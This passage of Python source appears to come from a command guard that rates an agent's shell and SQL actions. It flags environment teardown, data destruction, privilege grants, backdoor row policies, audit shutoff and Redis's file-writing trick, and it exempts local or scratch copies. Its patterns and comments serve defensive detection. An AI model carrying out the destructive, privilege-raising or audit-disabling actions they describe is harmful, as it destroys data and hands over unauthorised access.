    if action.commands or not action.tool.startswith("mcp__") or action.tool.count("__") < 2:
        return None
    _, server, name = action.tool.split("__", 2)
    entry = program(server.lower())
    if entry is None or Role.INFRA_DESTROYER not in entry.roles or not isinstance(action.arguments, dict):
        return None
    values = [v for v in action.arguments.values() if isinstance(v, str)]
    values += [k for k, v in action.arguments.items() if v is True]  # a switch set: `confirm`, `force`
    spelt = re.sub(r"([a-z0-9])([A-Z])", r"\1_\2", name).lower().replace("-", "_")
    words = [w for w in spelt.split("_") if w]
    if words[:1] in ([entry.name], [server.lower()]) and len(words) > 1:
        words = words[1:]  # `kubectl_delete` is `kubectl delete`
    # the CLI's own spelling too: `s3_delete_bucket` is also `delete-bucket` (`aws s3api delete-bucket`)
    joined = ["-".join(words[i:]) for i in range(len(words) - 1)]
    return Command((entry.name, *words, *joined, *values), entry.name)


# An object store's address (`s3://bucket/key`, `gs://`, `abfss://container@account/...`, `dbfs:/mnt/x`)
_STORE_URL = prefiltered(r"^(?:[a-z][a-z0-9+]*://[^/\s]+(?:/|$)|dbfs:/)", re.IGNORECASE)


# A server of this machine named by its web address (an agent's API: `-address=http://127.0.0.1:4646`); a
# store's own address (`redis://`, `-h localhost`) names the developer's data, judged as the store's
_LOCAL_AGENT = re.compile(
    r"(?:^|[=\s])(?:https?://(?:localhost|127\.0\.0\.1|\[::1\])(?::\d+)?|(?:localhost|127\.0\.0\.1|\[::1\]):\d+)(?:/|$)"
)


def _on_local_copy(command: Command) -> bool:
    """The invocation works on the local emulator's copy of a service (the program table's `local_copy`), or
    on a server of this machine its web address names (`nomad job stop -address=http://127.0.0.1:4646 api`,
    `NOMAD_ADDR=http://127.0.0.1:4646 nomad ...`: a development agent), unless its words name production."""
    entry = program(command.name)
    words = " ".join(command.argv[1:])
    if entry and entry.local_copy and _pattern(entry.local_copy).search(words):
        return True
    return any(_LOCAL_AGENT.search(w) for w in command.argv[1:]) and not PRODUCTION.search(words)


# Object stores' web addresses: the account or bucket host, then the container and the key
_STORE_HOST = re.compile(
    r"(?i)\.(?:blob|dfs)\.core\.windows\.net$|(?:^|\.)s3[.-][\w.-]*amazonaws\.com$|^storage\.googleapis\.com$"
    r"|\.r2\.cloudflarestorage\.com$"
)


def _scratch_in_store(url: str) -> bool:
    """A prefix below a bucket (or two folders below the root of a workspace file system) named as a
    scratch, temporary or test one (`s3://acme-lake/tmp/jdoe/`, `dbfs:/Users/jdoe@acme.com/scratch/run`):
    clearing it is a developer's own tidying, where the bucket itself or a data layer is the data."""
    bucket, _, key = url.split("://", 1)[1].partition("/") if "://" in url else ("", "", url[5:])
    if url[:8].lower().startswith(("https://", "http://")):
        if not _STORE_HOST.search(bucket):
            return False  # a service's API (`https://dev.azure.com/org/...?api-version=7.1-preview.1`)
        bucket, _, key = key.split("?", 1)[0].partition("/")  # the host is the store's account, not a bucket
    levels = [part for part in key.split("/") if part]
    if len(levels) < (1 if bucket else 2) or ".." in levels:
        return False
    return bool(_SCRATCH_RESOURCE.search(f"{bucket}/{key}"))


# A database a command is pointed at by an address (`postgres://u:p@localhost:5432/app_dev`) or a
# connection string (`Server=localhost,1433;Database=ShopDb_Dev`): its server and its name
_DATABASE_ADDRESS = re.compile(
    r"\b[a-z][\w+]*://(?:[^@/\s'\"]*@)?(\[[^\]]*\]|[^:/\s'\";]+)(?::\d+)?/([\w-]+)"
)
_CONNECTION_STRING = re.compile(
    r"(?i)\b(?:server|host|data source|addr|address)\s*=\s*(?:tcp:)?([^;,'\"\s]+)[^'\"]*?"
    r"\b(?:database|initial catalog|dbname)\s*=\s*([\w-]+)"
)


_DATABASE_URL_LINE = re.compile(r"(?m)^[ \t]*(?:export[ \t]+)?\w*DATABASE_URL[ \t]*=[ \t]*[\"']?([^\s\"']+)")


def _local_scratch_database(command: Command, action: Action, cwd: str = "") -> bool:
    """The command (or its line's variables, or else the project's `.env`, which ORMs' CLIs read) points it
    at databases on this machine whose names say they are a development or test copy
    (`..@localhost:5432/app_dev`, `Server=localhost;Database=Shop_Dev`), and at nothing else: resetting one
    is a developer's own work."""
    texts = [w for w in command.argv[1:] if "=" in w or "://" in w]
    texts += [w for w in action.command_line.split() if re.match(r"[A-Z_][A-Z0-9_]*=", w)][:16]
    if not texts and cwd:
        from limen.normalize.paths import read_text

        texts = _DATABASE_URL_LINE.findall(read_text(os.path.join(cwd, ".env"), 16_000) or "")[:4]
    if any("$" in t or "`" in t for t in texts):
        return False
    found = [
        m.groups() for t in texts for m in (*_DATABASE_ADDRESS.finditer(t), *_CONNECTION_STRING.finditer(t))
    ]
    return bool(found) and all(
        host_destination(host.strip("[]").lower()).host_class is HostClass.LOOPBACK
        and _SCRATCH_DATABASE.fullmatch(name)
        for host, name in found
    )


def _deployed_project(command: Command, action: Action, ctx: Context) -> bool:
    """The command is pointed by its file or folder option at a project outside the workspace, the home and
    the temporary folders (`docker compose -f /opt/lims/docker-compose.yml`, `--project-directory /srv/app`):
    what the machine runs as a service, whose data its volumes hold."""
    cwd = action.cwd or ctx.workspace
    own = (cwd, ctx.workspace, ctx.home)
    argv = command.argv
    given = [argv[i + 1] for i, w in enumerate(argv[:-1]) if w in _PROJECT_OPTIONS]
    given += [w.split("=", 1)[1] for w in argv if w.split("=", 1)[0] in _PROJECT_OPTIONS and "=" in w]
    for value in given:
        path = canonical(value, cwd, ctx.home) if value.startswith(("/", "~")) else ""
        if path and not any(o and is_within(path, o) for o in own) and not in_temporary_folder(path):
            return True
    return False


_PROJECT_OPTIONS = frozenset({"-f", "--file", "--project-directory", "--env-file"})


def _infra_destruction(command: Command, action: Action, ctx: Context) -> Finding | None:
    """`terraform destroy`, `kubectl delete ns prod`, `aws s3 rb`: what the program table says destroys
    a whole environment or store (BLOCK) or deletes one resource (AUTH)."""
    entry = program(command.name)
    # run on another machine: over ssh, by its engine (`docker --context prod compose down -v`), or on a
    # production machine's own files (`docker compose -f deploy/prod/compose.yml down -v`)
    words = " ".join(w for w in command.argv[1:] if w)
    there = bool(
        entry
        and entry.destroys_there
        and (
            "ssh" in command.via
            or (entry.elsewhere and re.search(entry.elsewhere, words))
            or PRODUCTION.search(words) is not None
            or _deployed_project(command, action, ctx)
        )
    )
    if entry is None or not (entry.destroys_all or entry.destroys_one or there):  # (a build tool's wipe too)
        return None
    if any(w.startswith(_REHEARSALS) for w in command.argv[1:]):
        return None  # `kubectl delete ns x --dry-run=client`, `aws s3 rm --dryrun`: nothing is deleted
    if _on_local_copy(command):
        return None  # `wrangler r2 object delete b/k --local`: the emulator's copy on this machine
    stores = [w for w in command.argv[1:] if _STORE_URL.match(w)]
    if stores and all(_scratch_in_store(w) for w in stores):
        return None  # `gsutil rm -r gs://acme-data/tmp/run-17`: a scratch prefix of a store, not the store
    destroys_all = bool(entry.destroys_all and _pattern(entry.destroys_all).search(words))
    destroys_one = bool(entry.destroys_one and _pattern(entry.destroys_one).search(words))
    destroys_one = destroys_one or (there and bool(_pattern(entry.destroys_there).search(words)))
    if not destroys_all and not destroys_one:
        return None
    # `DATABASE_URL=postgres://...@localhost/app_dev prisma migrate reset`: a developer's own copy
    if not destroys_all and _local_scratch_database(command, action, action.cwd or ctx.workspace):
        return None
    where = _outside_production(command) or _selected_workspace(command, action)  # (`terraform workspace
    # select dev-alice && terraform destroy`)
    if where == "scratch":
        return None  # `kubectl delete ns preview-pr-398`, `helm uninstall api-pr-412`: a preview's end
    if _in_local_container(command, action) and not PRODUCTION.search(words):
        if not ctx.mode.strict_or_above:  # `docker compose exec php bin/magento setup:uninstall`: the
            return None  # compose project's own store, a developer's copy; asked in strict
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, f"{command.name} resets a local container"
        )
    if where == "elsewhere" and not destroys_all and _LOCAL_STAGE.search(" ".join(_scope_values(command))):
        return None  # `manage.py flush --settings=app.settings.local`: this machine's own copy, reset
    if where == "elsewhere" and destroys_all:  # `--context acme-staging`: an environment people rebuild
        detail = f"{command.name} destroys a non-production environment"
        return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 80, detail)
    if destroys_all:
        return _finding(
            ReasonCode.DESTRUCTIVE_COMMAND, Verdict.BLOCK, 94, f"{command.name} destroys an environment"
        )
    return _finding(ReasonCode.DESTRUCTIVE_COMMAND, Verdict.AUTH, 70, f"{command.name} deletes a resource")


_WORKSPACE_SELECTED = (("workspace", "select"), ("workspace", "new"))
# An environment that is this machine's own (a developer's local settings, a test run's), not a shared one
_LOCAL_STAGE = re.compile(r"(?i)(?<![A-Za-z0-9])(?:local|test|testing)(?![A-Za-z0-9])")


def _selected_workspace(command: Command, action: Action) -> str:
    """Where the Terraform workspace the line selects before the command lies, production named nowhere:
    "scratch" for a preview's (`terraform workspace select pr-482 && terraform destroy`), "elsewhere" for
    another non-production environment's (`dev-alice`), "" otherwise."""
    if command.name != "terraform" or PRODUCTION.search(action.command_line[:20000]):
        return ""
    for earlier in action.commands:
        if earlier is command:
            return ""
        if earlier.name == "terraform" and earlier.argv[1:3] in _WORKSPACE_SELECTED:
            named = " ".join(earlier.argv[3:])
            if _PREVIEW.search(named):
                return "scratch"
            return "elsewhere" if NOT_PRODUCTION.search(named) else ""
    return ""


_DELETING_VERBS = frozenset({"delete", "uninstall", "rm", "remove", "destroy", "del", "drop", "rb"})


def _outside_production(command: Command) -> str:
    """Where a delete acts, when not in production: "scratch" when what it deletes (the operands after its
    verb, a kind's name aside: `delete ns preview-pr-3`) is all named as a test's, a development copy's or a
    preview's; "elsewhere" when its scope options name a non-production environment (`--context
    acme-staging`, `-chdir=envs/dev`); "" otherwise, and whenever the line names production."""
    argv = [w for w in command.argv[1:] if w]
    if PRODUCTION.search(" ".join(argv)):
        return ""
    databases = _DATABASE_URL.findall(" ".join(argv))  # `flywayClean -Pflyway.url=jdbc:postgresql://...`
    if databases and all(h in _LOCAL_HOSTS or _SCRATCH_DATABASE.fullmatch(db) for h, db in databases):
        return "scratch"  # a database on this machine, or one named as a test's or a development copy's
    targets = _deleted_operands(command, argv)
    if targets and all(_SCRATCH_RESOURCE.search(w) and not _STORE_URL.match(w) for w in targets):
        return "scratch"  # (a store's address is judged by where in the store it points: `_scratch_in_store`)
    # where it acts is what its scope options say (a decoy name among the targets says nothing of it)
    contexts = _scope_values(command, _CONTEXT_OPTIONS)
    if contexts and all(LOCAL_CLUSTER_CONTEXT.fullmatch(v) for v in contexts):
        return "scratch"  # `kubectl delete ns e2e-7f3k2 --context kind-dev`: a cluster on this machine
    if any(_PREVIEW.search(v) for v in _scope_values(command, _NAMESPACE_OPTIONS)):
        return "scratch"  # `helm uninstall api -n ledger-pr-402`: what lives in a preview's namespace
    return "elsewhere" if NOT_PRODUCTION.search(" ".join(_scope_values(command))) else ""


_PREVIEW = re.compile(PREVIEW)
_NAMESPACE_OPTIONS = frozenset({"-n", "--namespace"})
_CONTEXT_OPTIONS = frozenset({"--context", "--kube-context", "--kubecontext"})
# A database's address in an option (`jdbc:postgresql://localhost:5432/payments_dev`): its host and name
_DATABASE_URL = prefiltered(r"(?:jdbc:)?[a-z][\w+]*://(?:[^@/\s]*@)?([\w.-]+|\[[\w:]+\])(?::\d+)?/([\w-]+)")
_LOCAL_HOSTS = frozenset({"localhost", "127.0.0.1", "[::1]", "host.docker.internal"})


# a cloud CLI's delete named for its kind (`delete-thing`, `delete-db-instance`), and the options that name
# what it deletes (`--thing-name`, `--db-instance-identifier`, `--function-name`)
_NAMED_DELETE = re.compile(r"^(?:delete|remove|destroy|deregister|terminate)-[a-z][\w-]*$")
_NAMING_OPTION = re.compile(r"^--[a-z][\w-]*-(?:name|names|id|ids|identifier|arn)$")


def _deleted_operands(command: Command, argv: list[str]) -> list[str]:
    """The names a delete is given: the operands after its verb, option values aside, a kind's name aside."""
    at = next((i for i, w in enumerate(argv) if w in _DELETING_VERBS or _NAMED_DELETE.match(w)), -1)
    if at < 0:
        return []
    entry = program(command.name)
    takes_value = entry.options if entry is not None else frozenset()
    operands: list[str] = []
    skip = False
    rest = argv[at + 1 :]
    for i, word in enumerate(rest):
        if skip:
            skip = False
        elif _NAMING_OPTION.match(word) and i + 1 < len(rest):
            operands.append(rest[i + 1])  # `aws iot delete-thing --thing-name x`: the name it deletes
            skip = True
        elif word.startswith("-"):
            skip = word in takes_value or word in _SCOPE_OPTIONS
        else:
            operands.append(word)
    if len(operands) > 1 and operands[0].isalpha():
        operands = operands[1:]  # the kind (`ns`, `nodegroup`, `release`), then the names
    return operands


def _scope_values(command: Command, options: frozenset[str] | None = None) -> list[str]:
    """The values of the options that say where a command acts (`--env staging`, `--context=acme-dev`), or
    of the `options` named."""
    argv = command.argv
    wanted = _SCOPE_OPTIONS if options is None else options
    found = []
    for i, word in enumerate(argv[1:], 1):
        option, eq, value = word.partition("=")
        if option in wanted:
            found.append(value if eq else (argv[i + 1] if i + 1 < len(argv) else ""))
        elif options is None and eq and ENVIRONMENT_VARIABLE.search(option):
            found.append(value)  # `DJANGO_SETTINGS_MODULE=app.settings.local`, handed on by the shell
    if options is None and len(argv) > 1 and re.fullmatch(r"@[\w.-]+", argv[1]):
        found.append(argv[1][1:])  # a site alias (`drush @local sql:drop`, `wp @staging db reset`)
    return found


# Options whose value says where a command acts (a cluster, a namespace, a project), not what it deletes
_SCOPE_OPTIONS = frozenset(
    {"-n", "--namespace", "--context", "--kube-context", "--kubecontext", "--cluster", "--project", "-p"}
    | {"--profile", "--region", "--env", "-e", "--environment", "--stage", "--subscription", "-g"}
    | {"-chdir", "--chdir", "--workspace", "--app", "-a", "--kubeconfig", "--resource-group"}
    | {"-var-file", "--var-file"}  # Terraform's variables for one environment (`-var-file=envs/dev.tfvars`)
    | {"--target"}  # dbt's profile target (`--target dev`)
    | {"--settings"}  # Django's settings module (`--settings=app.settings.local`)
    | {"--target-org"}  # Salesforce's org (`--target-org dev-sandbox`)
)
# Of those, the ones that name a whole environment (a namespace or a region may hold several)
_ENVIRONMENT_OPTIONS = frozenset(
    {"--target", "--env", "-e", "--environment", "--stage", "--context", "--kube-context", "--app", "-a"}
)


# A string, a quoted name or a comment, scanned left to right (a `--` inside a string is no comment).
_SQL_TOKEN = re.compile(
    r"'(?:[^']|'')*'?|\"(?:[^\"]|\"\")*\"?|`[^`]*`?|--[^\n]*|#[^\n]*|/\*.*?(?:\*/|$)", re.S
)
_SQL_DROP = re.compile(
    r"\bdrop\s+(?:table|database|schema|view|materialized|index|user|role|owned|collection|keyspace|share|stage"
    r"|stream|pipe|catalog|volume|tablespace|dynamic\s+table|iceberg\s+table)\b"
    r"|\b(?:remove|rm)\s+@"  # a Snowflake stage's files deleted (`REMOVE @RAW.ORDERS_STAGE`)
)
# `ALTER TABLE t DROP COLUMN c` (or `DROP c`): the column's data is gone with it
_SQL_ALTER_DROP = re.compile(r"\balter\s+table\b.*\bdrop\b(?!\s+(?:constraint|default|not\s+null|index)\b)")
_SQL_TRUNCATE = re.compile(r"\btruncate\b")
# A table replaced by a copy of itself that selects no row (`CREATE OR REPLACE TABLE t AS SELECT * FROM t
# WHERE 1=0`, `INSERT OVERWRITE TABLE t SELECT ... WHERE false`): emptied, as TRUNCATE would
_SQL_REPLACED_EMPTY = re.compile(
    r"\b(?:create\s+or\s+replace\s+table|insert\s+overwrite(?:\s+table)?)\s+([\w.\"`]+)\b.*?"
    r"\bfrom\s+\1(?![\w.])[^;]*?(?:\bwhere\s+(?:1\s*=\s*0|0\s*=\s*1|1\s*(?:<>|!=)\s*1|false|0)\b|\blimit\s+0\b)",
    re.DOTALL,
)
_SQL_DELETE = re.compile(r"\bdelete\s+(?:\w+\s+)?from\b")
_SQL_UPDATE = re.compile(r"\bupdate\s+(?:only\s+)?\S+\s+(?:(?:as\s+)?(?!set\b)\w+\s+)?set\b")
# A WHERE that filters nothing: `1=1`, `true`, `id = id`, `'' = ''` (strings are blanked before this), a
# row's creation or change time before now, an id above zero (`IS NOT NULL` may well filter: a real test).
_SQL_WHERE = re.compile(
    r"\bwhere\b(?!\s+(?:1\s*=\s*1|0\s*=\s*0|1\s*(?:<>|!=)\s*0|true|1|not\s+false|(\w+)\s*=\s*\1|''\s*=\s*''"
    r"|(?:[\w.]*\.)?id\s*>\s*0"
    r"|[\w.]*(?:created|inserted|updated|modified)_?(?:at|on|date|time)\w*\s*<=?\s*(?:now\s*\(\s*\)|current_timestamp"
    r"|current_date|getdate\s*\(\s*\)|sysdate|localtimestamp))"
    r"\s*(?:$|;|\blimit\b|\border\b|\breturning\b))"
)
_SQL_DYNAMIC = re.compile(
    r"(?i)\b(?:execute|exec|sp_executesql|prepare\s+\w+\s+from)\s*(?:\(\s*)?(?:format\s*\(\s*)?N?'((?:[^']|''){1,400})'"
)
_MONGO_DROP = re.compile(r"\.(?:dropDatabase|drop)\s*\(|\.(?:deleteMany|remove)\s*\(\s*\{\s*\}")


def _numbered_database(command: Command) -> bool:
    """`redis-cli -n 15`: a database other than the default 0, where an application keeps its data."""
    args = command.argv[1:]
    return any(
        w == "-n" and i + 1 < len(args) and args[i + 1].isdigit() and args[i + 1] != "0"
        for i, w in enumerate(args)
    )


def _keeps_recent_logs(args: Sequence[str]) -> bool:
    """`journalctl --vacuum-size=2G`, `--vacuum-time=2weeks`: the journal trimmed to what a disk holds, its
    recent days kept (not `--vacuum-time=1s`, `--vacuum-size=1K`, or a rotation that leaves nothing)."""
    kept = [w.split("=", 1)[1] for w in args if w.startswith(("--vacuum-size=", "--vacuum-time="))]
    return bool(kept) and all(_LARGE_KEEP.fullmatch(value.strip().lower()) for value in kept)


# At least 100 MB or a day (`2G`, `500M`, `2weeks`, `3d`, `1month`)
_LARGE_KEEP = re.compile(
    r"(?:[1-9]\d{2,}m|\d+(?:\.\d+)?[gt]|[1-9]\d*\s*(?:d|days?|w|weeks?|months?|y|years?))"
)


def _redis_destroys(command: Command, action: Action) -> str:
    """What a `redis-cli` line destroys: every database or one flushed, the server shut down (its unsaved
    data lost with `NOSAVE`), the keys a scan lists deleted one by one (`--scan | xargs redis-cli UNLINK`),
    the server made a replica (its data replaced by another's), where it saves its data moved (the trick
    that writes a key file or a cron line as the server's user). The commands it is given on its input
    (`echo FLUSHALL | redis-cli`, a here-document) are read as its arguments are. "" for none."""
    given = [w for text in action.payloads[:16] for w in text[:4096].split()]
    words = [w.upper() for w in (*command.argv[1:], *given)]
    if "FLUSHALL" in words:
        return "flushes every database"
    if "FLUSHDB" in words:
        return "flushes one database"
    if "SHUTDOWN" in words:
        return "shuts the server down" + (", discarding unsaved data" if "NOSAVE" in words else "")
    if {"UNLINK", "DEL"} & set(words) and "xargs" in command.via:
        return "deletes every key a list names"
    if {"REPLICAOF", "SLAVEOF"} & set(words) and "NO" not in words:
        return "makes the server a replica, replacing its data"
    if "CONFIG" in words and "SET" in words and {"DIR", "DBFILENAME"} & set(words):
        return "moves where the server writes its data file"
    return ""


def sql_destroys(text: str) -> str:
    """What a SQL text destroys, statement by statement, comments and strings aside: "" when nothing."""
    if not text or len(text) > 100_000:
        return ""
    # a statement built from strings and run (`EXECUTE 'TRUNCATE TABLE ' || r.tablename`, `EXECUTE
    # format('DROP TABLE %I', t)`): its strings are the statement's words, and its target is computed
    dynamic = ";".join(m.group(1).replace("''", "'") for m in islice(_SQL_DYNAMIC.finditer(text), 16))
    text = f"{text};{dynamic}" if dynamic else text
    bare = _SQL_TOKEN.sub(lambda m: " " if m.group(0)[:1] in "-#/" else "''", text).lower()
    for statement in bare.split(";"):
        if _SQL_DROP.search(statement):
            return "DROP"
        if _SQL_TRUNCATE.search(statement):
            return "TRUNCATE"
        if _SQL_DELETE.search(statement) and not _SQL_WHERE.search(statement):
            return "DELETE without WHERE"
        if _SQL_UPDATE.search(statement) and not _SQL_WHERE.search(statement):
            return "UPDATE without WHERE"  # every row overwritten: the old values are gone
        if _SQL_ALTER_DROP.search(statement):
            return "ALTER TABLE ... DROP"
        if _SQL_REPLACED_EMPTY.search(statement):
            return "a table replaced by none of its rows"
    return ""


_SHORT_CLUSTER = re.compile(r"^-[A-Za-z]{2,6}$")


def _sql_texts(command: Command) -> list[str]:
    """The statements a database client is given on its command line."""
    name, argv = command.name, command.argv
    entry = program(name)
    flags = entry.code_options if entry is not None else frozenset()
    texts: list[str] = []
    for i, word in enumerate(argv[1:], 1):
        for flag in flags:
            if word == flag and i + 1 < len(argv):
                texts.append(argv[i + 1])
            elif word.startswith(flag + "=") and flag.startswith("--"):
                texts.append(word.split("=", 1)[1])
            elif len(flag) == 2 and word.startswith(flag) and len(word) > 2 and not word.startswith("--"):
                texts.append(word[2:])
            elif (
                len(flag) == 2 and _SHORT_CLUSTER.match(word) and word.endswith(flag[1]) and i + 1 < len(argv)
            ):  # `psql -Atc "SELECT ..."`: flags run together, the last one taking the statement
                texts.append(argv[i + 1])
    if entry is not None and Role.EMBEDDED_DATABASE in entry.roles:
        operands: list[str] = []
        skip = False
        for word in argv[1:]:
            if skip:
                skip = False
            elif entry is not None and word in entry.options:
                skip = True
            elif not word.startswith("-"):
                operands.append(word)
        texts.extend(operands[1:])  # the first operand is the database file
    return texts


# SQL that raises someone's privileges: a grant of everything or of a role, a superuser made, an account's
# role or admin flag set (`UPDATE users SET role='admin' WHERE email='x'`)
SQL_GRANTS = re.compile(
    r"(?is)\bgrant\s+(?:all\b|(?!to\b)[\w\s,]*\bto\b)|\balter\s+(?:user|role)\b.*\b(?:superuser|createrole|bypassrls)\b"
    # an existing account's password set to one the caller knows: the account is theirs from then on
    r"|\balter\s+(?:user|role|login)\b[^;]*\b(?:password|identified\s+(?:by|with))\b|\bset\s+password\s+for\b"
    r"|\bcreate\s+(?:user|role)\b.*\b(?:superuser|bypassrls)\b"
    r"|\b(?:disable|no\s+force)\s+row\s+level\s+security\b|\bdrop\s+policy\b"
    # BigQuery's and Snowflake's row policies dropped, or one that lets every row through to everyone
    r"|\bdrop\s+(?:all\s+)?row\s+access\s+polic(?:y|ies)\b|\bfilter\s+using\s*\(\s*true\s*\)"
    # a column's mask or a table's row policy taken off (Snowflake's UNSET/DROP, Databricks' DROP MASK and
    # DROP ROW FILTER), or a policy whose body hands every caller the value or every row (`-> val`, `-> true`)
    r"|\b(?:unset|drop)\s+(?:masking|row\s+access|aggregation|projection)\s+polic(?:y|ies)\b"
    r"|\bdrop\s+(?:mask|row\s+filter)\b"
    r"|\b(?:masking|row\s+access)\s+policy\b[^;]*->\s*"
    r"(?!(?:case|iff?|coalesce|decode|nvl|not)\b)[\w\"]+[ \t]*(?:;|\n|$)"
    r"|\bgrant\s+to\s*\(\s*[\"'](?:allusers|allauthenticatedusers)[\"']"
    r"|\bgrant\s+`?roles/[\w.]+`?\s+on\b[^;]*\bto\b"  # BigQuery's grant of an IAM role on a dataset
    r"|\balter\s+share\b.*\badd\s+accounts?\b"  # a Snowflake share handed to another account
    # a database copied to another account, a key attached to an account (who holds its private half signs in)
    r"|\benable\s+(?:replication|failover)\s+to\s+accounts?\b|\ballowed_accounts\s*="
    r"|\balter\s+user\b[^;]*\bset\s+rsa_public_key"
    r"|\bupdate\s+\S+\s+set\b[^;]*\b(?:role|(?:is_)?\w*admin|is_?superuser|is_?staff|permissions?|privileges?)\s*=\s*"
    r"(?:'[^']*admin[^']*'|'(?:owner|root|super\w*)'|(?:true|1)\b)"
    # a row of a membership table (`user_roles`, `account_permissions`, `group_members`, Spring's
    # `authorities`) that hands an account an administrator's role (`VALUES (..., 'ROLE_ADMIN')`)
    r"|\binsert\s+into\s+[\w.\"`]*?(?:(?:user|account|member)\w*?(?:role|group|permission|authorit|grant)"
    r"|(?:role|group)_?(?:member|assignment|user)|\bauthorit)\w*[\"`]?\s*\([^)]*\)\s*values\s*"
    r"\([^;]*?'(?:[^']*admin[^']*|owner|root|super\w*)'"
    # an account's claims made admin (Supabase's `raw_app_meta_data`), a grant to anonymous callers, a
    # policy that lets every row be changed, a function that reads the accounts with its owner's rights
    r"|\bupdate\s+\S+\s+set\b[^;]*\b(?:raw_app_meta_data|raw_user_meta_data|app_metadata)\b[^;]*admin"
    r"|\bgrant\b[^;]*\bto\s+(?:[\w\"]+\s*,\s*){0,8}(?:role\s+)?(?:anon|public)\b"
    r"|\bupdate\s+\S+\s+set\b[^;]*\b(?:is_)?public\s*=\s*(?:true|1|'t')\b"  # a bucket made public
    # a policy that lets anyone change rows: for every role (or anonymous callers), with a condition that
    # asks nothing of who calls (`for all using (bucket_id = 'kyc')`, `using (true)`; `auth.uid() = owner`,
    # `to authenticated`, `to service_role` ask)
    r"|\bcreate\s+policy\b(?![^;]*\bto\s+(?!public\b|anon\b)\w)"
    r"(?![^;]*(?:\bauth\.|\bcurrent_user\b|\bsession_user\b|\bcurrent_setting\b|\buid\s*\(|\bjwt\b|\brole\s*\())"
    r"[^;]*\bfor\s+(?:all|update|delete|insert)\b"
    # an account's password set to one the caller chose: the account is theirs from then on
    r"|\bupdate\s+\S+\s+set\b[^;]*\b(?:encrypted_|hashed_)?(?:password|passwd|pwd)(?:_?hash|_digest)?\s*="
    r"|\bsecurity\s+definer\b[^;]*\bauth\.users\b|\bauth\.users\b[^;]*\bsecurity\s+definer\b"
    r"|\bcreate\s+policy\b[^;]*\buid\(\)\s*=\s*'[0-9a-f-]{36}'"  # a policy naming one account: a backdoor
    # SQL Server's administrators: a login put in a server role that owns the instance, or a database's
    r"|\balter\s+server\s+role\s+\[?(?:sysadmin|securityadmin|serveradmin|controlserver)\]?\s+add\s+member\b"
    r"|\bsp_addsrvrolemember\b|\balter\s+role\s+\[?db_owner\]?\s+add\s+member\b"
)


# SQL that switches a database's own controls off: a network policy lifted, multi-factor bypassed, the means
# of recovery (time travel, retention) taken away, stages allowed without a storage integration (Snowflake);
# row security off (PostgreSQL)
SQL_WEAKENS = re.compile(
    r"(?is)\bunset\s+network_policy\b|\bdrop\s+network\s+policy\b|\bmins_to_bypass_mfa\s*=\s*[1-9]"
    r"|\bdata_retention_time_in_days\s*=\s*0\b|\brequire_storage_integration_for_stage_\w+\s*=\s*false\b"
    r"|\bdisable_mfa\b|\bprevent_unload_to_inline_url\s*=\s*false\b"
    # the account's sign-in rules (multi-factor, passwords, sessions) taken off, its network opened to all
    r"|\bunset\s+(?:authentication|password|session)\s+policy\b|\bdrop\s+(?:authentication|password)\s+policy\b"
    r"|\ballowed_ip_list\s*=\s*\(\s*'0\.0\.0\.0/0'"
    r"|\bpgaudit\.log\s*=\s*'none'|\blog_statement\s*=\s*'none'"  # PostgreSQL's audit trail off
    # a table's triggers (its audit rows, its checks) switched off, for all or for the session; SQL Server's
    # audit stopped; MySQL's query and audit logs switched off
    r"|\bdisable\s+trigger\s+all\b|\bsession_replication_role\s*(?:=|to)\s*'?replica\b"
    r"|\balter\s+(?:server|database)\s+audit\b[^;]*\bstate\s*=\s*off\b"
    r"|\bset\s+(?:global|persist)\s+(?:general_log|audit_log\w*|log_bin\w*)\s*=\s*'?(?:off|0)\b"
    # SQL Server's own ways to run commands on its host switched on (`xp_cmdshell`, OLE automation)
    r"|\bsp_configure\s+'(?:xp_cmdshell|ole\s+automation\s+procedures)'\s*,\s*1\b"
)


def _sql_grants(action: Action) -> str:
    """SQL the call runs, by any road (a database tool's argument, `psql -c`, a library's `execute`), that
    raises privileges, or rows it writes that do (`limen.rules.rows`); "" when none does."""
    from limen.rules.rows import credential_chosen, rights_given

    if found := sql_matches(action, SQL_GRANTS):
        return found
    rows = written_rows(action)
    return rights_given(rows) or credential_chosen(rows)


def written_rows(action: Action) -> list[RowWrite]:
    """The columns the SQL the call runs writes, by any road (`limen.normalize.sql.row_writes`)."""
    from limen.normalize.sql import row_writes

    facts = memo(action)
    found = facts.get("written_rows")
    if found is None:
        found = facts["written_rows"] = [w for text in _bare_sql(action) for w in row_writes(text)]
    return list(found)


def _sql_runners(action: Action) -> list[Command]:
    """The commands of a line that run SQL (database clients; all of them when another road runs some)."""
    clients = [c for c in action.commands if has(c.name, Role.DATABASE_CLIENT)]
    return clients if clients and len(clients) == len([c for c in action.commands if _sql_texts(c)]) else []


_BARE_VALUE = re.compile(r"[\w.+-]{1,40}")  # a word written bare: `true`, `NONE`, `off`


def _sql_controls(action: Action) -> str:
    """What the rows the call writes do to a control, as the table of controls judges the same settings
    given to the application's own admin API (`normalize.tools.changes_controls`): `UPDATE realm SET
    ssl_required = 'NONE', brute_force_protected = false`, a settings table's row (`UPDATE mdl_config SET
    value = '0' WHERE name = 'forcelogin'`), a lifetime made years long. "" for none."""
    from limen.normalize.tools import changes_controls

    tables: dict[str, dict[str, object]] = {}
    for write in written_rows(action)[:64]:
        if write.inserted or not (write.literal or _BARE_VALUE.fullmatch(write.value)):
            continue  # a new row (`INSERT INTO roles (name) VALUES ('admin')`) changes no setting, and an
            # expression (`now()`, a sub-query) names no setting's value
        value = write.value[:80]
        tables.setdefault(write.table, {})[write.column] = {"true": True, "false": False}.get(
            value.lower(), value
        )
    for table, settings in list(tables.items())[:8]:
        if what := changes_controls(f"update_{table}", settings):
            return what.split(":", 1)[1]
    return ""


def sql_matches(action: Action, pattern: re.Pattern[str]) -> str:
    """The first text `pattern` finds in the SQL the call runs, comments aside, by any road; "" if none."""
    for bare in _bare_sql(action):
        found = pattern.search(bare)
        if found:
            return " ".join(found.group(0).split())[:60]
    return ""


def _bare_sql(action: Action) -> list[str]:
    """The SQL the call runs (a tool's argument, a program's library call, a client's command line or
    input), comments aside: gathered once per action, since several rules ask it."""
    facts = memo(action)
    found = facts.get("bare_sql")
    if found is None:
        texts = sql_statements(action.arguments)
        texts += [n[len(SQL_NOTE) :] for n in action.notes if n.startswith(SQL_NOTE)]
        for command in action.commands:
            entry = program(command.name)
            if entry is not None and Role.DATABASE_CLIENT in entry.roles:
                texts += _sql_texts(command) or list(action.payloads)
            else:
